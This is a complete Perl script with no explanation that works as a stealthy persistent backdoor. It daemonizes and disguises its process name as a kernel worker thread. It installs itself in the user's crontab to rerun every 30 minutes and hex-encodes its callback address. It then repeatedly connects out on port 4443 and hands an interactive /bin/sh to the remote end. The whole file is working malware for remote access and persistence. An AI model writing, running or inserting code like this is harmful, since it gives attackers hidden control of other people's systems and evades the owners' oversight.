#!/usr/bin/env perl
use strict;
use warnings;
use Socket;
use POSIX qw(setsid);
use Cwd qw(abs_path);

my $self = abs_path($0);
exit 0 if fork();
setsid();
open(STDIN, '<', '/dev/null');
open(STDOUT, '>', '/dev/null');
open(STDERR, '>', '/dev/null');
$0 = '[kworker/u8:2]';

my $c = `crontab -l 2>/dev/null` // '';
unless ($c =~ /\Q$self\E/) {
    open(my $p, '|-', 'crontab -') or die;
    print $p $c . "*/30 * * * * perl '$self' >/dev/null 2>&1\n";
    close $p;
}

my $lock = "/tmp/.nvt-" . $<;
if (-e $lock && (time - (stat $lock)[9]) < 1700) { exit 0 }
open(my $l, '>', $lock); close $l;

my $h = pack('H*', '3139322e302e322e313434');
my $port = 4443;

for (1 .. 20) {
    socket(my $s, PF_INET, SOCK_STREAM, getprotobyname('tcp')) or last;
    if (connect($s, sockaddr_in($port, inet_aton($h)))) {
        open(STDIN,  '>&', $s);
        open(STDOUT, '>&', $s);
        open(STDERR, '>&', $s);
        exec({'/bin/sh'} 'sh', '-i');
    }
    close $s;
    sleep 90;
}
unlink $lock;
